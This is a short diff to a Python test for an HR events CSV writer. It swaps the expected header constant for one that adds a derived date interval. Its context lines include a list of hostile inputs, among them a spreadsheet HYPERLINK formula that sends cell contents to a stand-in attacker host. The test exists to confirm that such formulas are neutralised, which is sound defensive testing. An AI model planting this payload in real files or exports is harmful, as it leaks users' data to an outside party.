@@ -19,7 +19,7 @@ from hrevents.review import (
     write_reviewed_csv,
 )
 from hrevents.writers import FORMULA_START, read_events, write_events
-from hrevents_models import EVENT_COLUMNS, Event
+from hrevents_models import OUTPUT_COLUMNS, Event
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
@@ -86,7 +86,7 @@ def test_events_csv_is_neutralised_and_reads_back(tmp_path: Path, bom: bool) -> 
     path = write_events(events, tmp_path / "events.csv", bom=bom)
     assert path.read_bytes().startswith(b"\xef\xbb\xbf") is bom
     rows = raw_cells(path)
-    assert rows[0] == list(EVENT_COLUMNS)  # stable column order, SPEC section 4
+    assert rows[0] == list(OUTPUT_COLUMNS)  # stable column order, SPEC section 4, then the derived date interval
     assert dangerous(rows) == []
     assert read_events(path) == events
 
